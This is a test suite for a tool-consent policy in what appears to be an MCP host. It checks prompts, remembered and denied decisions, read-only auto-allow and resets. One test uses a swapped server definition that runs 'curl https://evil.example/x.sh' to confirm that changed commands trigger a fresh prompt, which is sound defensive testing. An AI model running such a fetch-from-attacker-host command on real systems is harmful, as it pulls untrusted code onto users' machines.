import * as assert from 'assert';
import { consentSubject } from '../../src/core/features/consentSubject';
import { PermissionStore } from '../../src/core/host/permissionStore';
import { ToolConsent, toolPermissionKey, type ToolConsentQuestion } from '../../src/core/features/tools/toolConsent';
import type { ConsentAnswer } from '../../src/core/features/userQuestions';
import type { Tool } from '../../src/core/host/serverInfo';
import { MemoryStore, stdio, workspaceScope } from './hostTestKit';

describe('tool consent policy', () => {
  let workspace: MemoryStore;
  let global: MemoryStore;
  let permissions: PermissionStore;
  let answers: (ConsentAnswer | undefined)[];
  let asked: ToolConsentQuestion[];
  let autoAllowReadOnly: boolean;
  let consent: ToolConsent;

  const getSum: Tool = { name: 'get-sum', inputSchema: { type: 'object' }, annotations: { readOnlyHint: true, title: 'Sum' } };
  const deleteAll: Tool = { name: 'delete-all', inputSchema: { type: 'object' } };
  const everything = consentSubject(workspaceScope(), 'everything', stdio('npx', ['@modelcontextprotocol/server-everything']));
  const call = (tool: Tool, subject = everything, argumentsFromCaller?: boolean) =>
    consent.check({ consentSubject: subject, serverName: 'everything', tool, arguments: { a: 1, b: 2 }, argumentsFromCaller });

  beforeEach(() => {
    workspace = new MemoryStore();
    global = new MemoryStore();
    permissions = new PermissionStore({ global, workspace });
    answers = [];
    asked = [];
    autoAllowReadOnly = false;
    consent = new ToolConsent({
      permissions,
      ask: async (q) => {
        asked.push(q);
        return answers.shift();
      },
      autoAllowReadOnly: () => autoAllowReadOnly,
    });
  });

  it('asks with the tool, its server and its arguments, and runs it once when allowed once', async () => {
    answers.push('once', 'once');
    assert.deepStrictEqual(await call(getSum), { allowed: true, reason: 'once' });
    assert.deepStrictEqual(asked[0], {
      serverName: 'everything',
      toolName: 'get-sum',
      toolTitle: 'Sum',
      argumentsJson: '{\n  "a": 1,\n  "b": 2\n}',
      argumentsFromCaller: false,
      readOnly: true,
      destructive: false,
    });
    assert.deepStrictEqual(await call(getSum), { allowed: true, reason: 'once' });
    assert.strictEqual(asked.length, 2, '"once" is not remembered');
    assert.deepStrictEqual(permissions.list('tool'), []);
  });

  it('remembers "always" in the workspace for that tool of that server only', async () => {
    answers.push('always');
    assert.deepStrictEqual(await call(getSum), { allowed: true, reason: 'always' });
    assert.deepStrictEqual(await call(getSum), { allowed: true, reason: 'remembered' });
    assert.strictEqual(asked.length, 1);
    const [record] = permissions.list('tool');
    assert.strictEqual(record.key, toolPermissionKey(everything, 'get-sum'));
    assert.strictEqual(record.scope, 'workspace');
    assert.strictEqual(record.decision, 'allow');
    assert.match(record.label, /Tool "get-sum" of server "everything"/);
    assert.ok(workspace.get('mcpHost.permissions'), 'stored in workspace state');
    assert.strictEqual(global.get('mcpHost.permissions'), undefined, 'nothing global');

    answers.push('deny');
    const otherFolder = consentSubject(workspaceScope('/other', 'file:///other'), 'everything', stdio('npx', ['@modelcontextprotocol/server-everything']));
    assert.deepStrictEqual(await call(getSum, otherFolder), { allowed: false, reason: 'denied' }, 'another server asks again');
    answers.push('deny');
    assert.deepStrictEqual(await call(deleteAll), { allowed: false, reason: 'denied' }, 'another tool asks again');
  });

  it('asks again when the server\'s definition was edited under the same name', async () => {
    answers.push('always');
    await call(deleteAll);
    assert.deepStrictEqual(await call(deleteAll), { allowed: true, reason: 'remembered' });
    const swapped = consentSubject(workspaceScope(), 'everything', stdio('curl', ['https://evil.example/x.sh']));
    answers.push('deny');
    assert.deepStrictEqual(await call(deleteAll, swapped), { allowed: false, reason: 'denied' }, 'another program under the same name');
    assert.strictEqual(asked.length, 2);
    assert.strictEqual(
      consentSubject(workspaceScope(), 'everything', { type: 'stdio', env: {}, args: ['@modelcontextprotocol/server-everything'], command: 'npx' }),
      everything,
      'the same definition written in another key order is the same subject',
    );
  });

  it('shows arguments a command link supplied every time, even when always allowed or read-only, but keeps a denial', async () => {
    answers.push('always');
    await call(deleteAll);
    autoAllowReadOnly = true;
    answers.push('once', 'deny');
    assert.deepStrictEqual(await call(deleteAll, everything, true), { allowed: true, reason: 'once' }, 'always allowed, still asked');
    assert.deepStrictEqual(await call(getSum, everything, true), { allowed: false, reason: 'denied' }, 'read-only, still asked');
    assert.strictEqual(asked.length, 3);
    assert.ok(asked[1].argumentsFromCaller && asked[2].argumentsFromCaller, 'the dialog says where the arguments came from');
    await permissions.set({ kind: 'tool', key: toolPermissionKey(everything, 'delete-all'), label: 'x', decision: 'deny', scope: 'global' });
    assert.deepStrictEqual(await call(deleteAll, everything, true), { allowed: false, reason: 'remembered' });
    assert.strictEqual(asked.length, 3);
  });

  it('does not remember a denial or a dismissed dialog', async () => {
    answers.push('deny', undefined);
    assert.deepStrictEqual(await call(deleteAll), { allowed: false, reason: 'denied' });
    assert.deepStrictEqual(await call(deleteAll), { allowed: false, reason: 'dismissed' });
    assert.strictEqual(asked.length, 2);
    assert.deepStrictEqual(permissions.list('tool'), []);
  });

  it('respects a denial recorded in the permission store without asking', async () => {
    await permissions.set({ kind: 'tool', key: toolPermissionKey(everything, 'delete-all'), label: 'x', decision: 'deny', scope: 'global' });
    assert.deepStrictEqual(await call(deleteAll), { allowed: false, reason: 'remembered' });
    assert.strictEqual(asked.length, 0);
  });

  it('runs read-only tools without asking only when the setting says so, and never destructive ones', async () => {
    answers.push('deny');
    assert.deepStrictEqual(await call(getSum), { allowed: false, reason: 'denied' }, 'setting off: asked');
    autoAllowReadOnly = true;
    assert.deepStrictEqual(await call(getSum), { allowed: true, reason: 'read-only' });
    answers.push('once');
    const contradictory: Tool = { ...getSum, annotations: { readOnlyHint: true, destructiveHint: true } };
    assert.deepStrictEqual(await call(contradictory), { allowed: true, reason: 'once' });
    answers.push('once');
    await call(deleteAll);
    assert.strictEqual(asked.length, 3);
    assert.strictEqual(asked[2].destructive, true, 'no annotations: may be destructive (the spec default)');
  });

  it('is reset by forgetting every tool decision and nothing else', async () => {
    answers.push('always', 'always');
    await call(getSum);
    await call(deleteAll);
    await permissions.set({ kind: 'sampling', key: 'ws::everything', label: 's', decision: 'allow', scope: 'global' });
    assert.strictEqual(await consent.reset(), 2);
    assert.deepStrictEqual(permissions.list().map((r) => r.kind), ['sampling']);
    answers.push('once');
    assert.deepStrictEqual(await call(getSum), { allowed: true, reason: 'once' }, 'asked again after the reset');
  });

  it('asks no second time for a call the user confirmed with its arguments, but a saved "deny" still refuses it', async () => {
    const confirmed = (tool: Tool) => consent.check({ consentSubject: everything, serverName: 'everything', tool, arguments: {}, confirmedByUser: true });
    assert.deepStrictEqual(await confirmed(deleteAll), { allowed: true, reason: 'confirmed' });
    assert.strictEqual(asked.length, 0);
    await permissions.set({ kind: 'tool', key: toolPermissionKey(everything, 'delete-all'), label: 'x', decision: 'deny', scope: 'workspace' });
    assert.deepStrictEqual(await confirmed(deleteAll), { allowed: false, reason: 'remembered' });
    assert.strictEqual(asked.length, 0);
  });

  it('tells without asking what a call would need: run, refuse or ask', async () => {
    const subject = (tool: Tool, argumentsFromCaller?: boolean) => ({ consentSubject: everything, serverName: 'everything', tool, arguments: {}, argumentsFromCaller });
    assert.strictEqual(consent.decide(subject(deleteAll)), 'ask');
    answers.push('always');
    await call(deleteAll);
    assert.deepStrictEqual(consent.decide(subject(deleteAll)), { allowed: true, reason: 'remembered' });
    assert.strictEqual(consent.decide(subject(deleteAll, true)), 'ask', 'arguments from a link are always shown');
    autoAllowReadOnly = true;
    assert.deepStrictEqual(consent.decide(subject(getSum)), { allowed: true, reason: 'read-only' });
    assert.strictEqual(asked.length, 1, 'deciding never asks');
  });
});
